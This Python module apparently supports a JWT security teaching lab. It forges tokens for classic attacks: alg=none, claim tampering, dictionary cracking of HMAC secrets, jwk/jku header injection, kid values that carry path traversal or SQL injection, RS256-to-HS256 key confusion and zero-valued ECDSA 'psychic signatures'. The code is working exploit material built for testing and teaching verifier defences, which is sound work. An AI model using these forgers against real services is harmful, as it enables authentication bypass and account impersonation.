"""Builders for the forged tokens of the attack lab (notebook 03).

Each function forges one classic JWT attack so a reader can watch ``jws.verify`` refuse it. They build
tokens by hand (raw base64url, raw HMAC) because a forger does not follow the rules ``jws.sign``
enforces. For teaching and for testing your own verifier only.
"""

from __future__ import annotations

import hmac
import json
import time
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from functools import cache
from importlib.resources import files
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from .anatomy import split_token
from .b64 import b64url_decode, b64url_encode
from .errors import ConfigurationError, InvalidKey, MalformedToken
from .jwk import JWK
from .jws import sign

__all__ = [
    "CrackResult",
    "alg_confusion",
    "alg_none",
    "crack_hmac",
    "jku_injection",
    "jwk_header_injection",
    "kid_injection",
    "load_wordlist",
    "psychic_signature",
    "tamper_claims",
]

_HMAC_HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_EC_ALGS = {"secp256r1": "ES256", "secp384r1": "ES384", "secp521r1": "ES512"}
_EC_SIZES = {"ES256": 32, "ES384": 48, "ES512": 66}


@dataclass(frozen=True)
class CrackResult:
    """The outcome of a dictionary attack: the secret found (None if not), words tried, seconds taken."""

    secret: str | None
    tried: int
    seconds: float


def _json(value: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(dict(value), separators=(",", ":")))


def _segments(token: str) -> tuple[str, str]:
    """Header and payload segments of a token, tolerating a missing signature (forgers do not care)."""
    if not isinstance(token, str) or token.count(".") != 2:
        raise MalformedToken("expected a compact token with three dot-separated segments")
    header_b64, payload_b64, _ = token.split(".")
    return header_b64, payload_b64


def _hs_forge(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes) -> str:
    signing_input = f"{_json(header)}.{_json(claims)}"
    mac = hmac.digest(secret, signing_input.encode("ascii"), _HMAC_HASHES[header["alg"]])
    return f"{signing_input}.{b64url_encode(mac)}"


def _alg_for(private_key: Any) -> str:
    if isinstance(private_key, rsa.RSAPrivateKey):
        return "RS256"
    if isinstance(private_key, ec.EllipticCurvePrivateKey) and private_key.curve.name in _EC_ALGS:
        return _EC_ALGS[private_key.curve.name]
    if isinstance(private_key, ed25519.Ed25519PrivateKey):
        return "EdDSA"
    raise InvalidKey(f"the attacker needs an RSA, EC or Ed25519 private key, got {type(private_key).__name__}")


def alg_none(token: str, alg: str = "none", *, signature: bytes = b"") -> str:
    """The token with its header's ``alg`` replaced (``none``, ``None``, ``NONE``, ``nOnE``...) and the
    signature dropped, as RFC 7519's "unsecured JWT" looks. Verifiers that trusted ``alg`` accepted it
    (CVE-2015-9235 and friends). ``signature`` puts bytes back, to get past a mere "empty signature" check.
    """
    header_b64, payload_b64 = _segments(token)
    header = json.loads(b64url_decode(header_b64))
    header["alg"] = alg
    return f"{_json(header)}.{payload_b64}.{b64url_encode(signature)}"


def tamper_claims(token: str, **changes: Any) -> str:
    """The token with its claims changed (a value of None removes the claim) but the OLD signature kept:
    what an app that decodes without verifying happily accepts."""
    header_b64, payload_b64 = _segments(token)
    claims = json.loads(b64url_decode(payload_b64))
    for name, value in changes.items():
        if value is None:
            claims.pop(name, None)
        else:
            claims[name] = value
    return f"{header_b64}.{_json(claims)}.{token.rsplit('.', 1)[1]}"


@cache
def load_wordlist() -> tuple[str, ...]:
    """The small list of common passwords shipped with the package (one per line)."""
    text = files("altx10_helpers").joinpath("data/wordlist.txt").read_text(encoding="utf-8")
    return tuple(line for line in text.splitlines() if line and not line.startswith("#"))


def crack_hmac(token: str, words: Iterable[str | bytes] | None = None, *,
               timer: Callable[[], float] = time.perf_counter) -> CrackResult:
    """Offline dictionary attack on an HS256/384/512 token: try each word as the secret.

    One captured token is enough; no server is involved, so no rate limit helps. Only a long random
    secret does. ``words`` defaults to ``load_wordlist()``.
    """
    parts = split_token(token)
    hash_name = _HMAC_HASHES.get(parts.header.get("alg"))
    if hash_name is None:
        raise MalformedToken(f"only HMAC tokens can be cracked offline like this, alg is {parts.header.get('alg')!r}")
    signing_input, target = parts.signing_input, parts.signature
    start = timer()
    tried = 0
    for word in load_wordlist() if words is None else words:
        tried += 1
        secret = word.encode("utf-8") if isinstance(word, str) else word
        if hmac.compare_digest(hmac.digest(secret, signing_input, hash_name), target):
            found = word if isinstance(word, str) else word.decode("utf-8", "replace")
            return CrackResult(found, tried, timer() - start)
    return CrackResult(None, tried, timer() - start)


def jwk_header_injection(claims: Mapping[str, Any], attacker_private_key: Any) -> str:
    """A token signed with the attacker's key that carries the attacker's public key in its ``jwk`` header.
    Verifiers that took the key from the token accepted anything (CVE-2018-0114)."""
    alg = _alg_for(attacker_private_key)
    public = JWK.from_key(attacker_private_key).public().to_dict()
    return sign(claims, attacker_private_key, alg, headers={"jwk": public})


def jku_injection(claims: Mapping[str, Any], attacker_private_key: Any, url: str) -> str:
    """A token whose ``jku`` header points at the attacker's own JWKS (with a matching ``kid``).
    Verifiers that fetched keys from a URL in the token trusted the attacker's server."""
    alg = _alg_for(attacker_private_key)
    kid = JWK.from_key(attacker_private_key).thumbprint()
    return sign(claims, attacker_private_key, alg, headers={"jku": url, "kid": kid})


def kid_injection(claims: Mapping[str, Any], kid: str, secret: bytes | str = b"") -> str:
    """An HS256 token whose ``kid`` is a path or query (``../../dev/null``, ``x' UNION SELECT 'k``) and
    whose MAC uses the secret that lookup would return (empty for /dev/null). Verifiers that read
    key files or database rows named by ``kid`` used the attacker's choice of secret."""
    raw = secret.encode("utf-8") if isinstance(secret, str) else secret
    return _hs_forge({"alg": "HS256", "typ": "JWT", "kid": kid}, claims, raw)


def alg_confusion(claims: Mapping[str, Any], public_key_pem: str | bytes) -> str:
    """RS256-to-HS256 confusion: an HS256 token MACed with the server's PUBLIC key PEM as the secret.
    A verifier that lets the token pick HS256 and hands it "the key" (the PEM) verifies it (CVE-2016-10555)."""
    raw = public_key_pem.encode("utf-8") if isinstance(public_key_pem, str) else public_key_pem
    return _hs_forge({"alg": "HS256", "typ": "JWT"}, claims, raw)


def psychic_signature(claims: Mapping[str, Any], alg: str = "ES256") -> str:
    """An ECDSA token whose signature is r = s = 0, which Java 15-18 accepted for any message and key
    (CVE-2022-21449, "psychic signatures")."""
    if alg not in _EC_SIZES:
        raise ConfigurationError(f"psychic signatures are an ECDSA attack: alg must be one of {sorted(_EC_SIZES)}")
    return f"{_json({'alg': alg, 'typ': 'JWT'})}.{_json(claims)}.{b64url_encode(bytes(2 * _EC_SIZES[alg]))}"
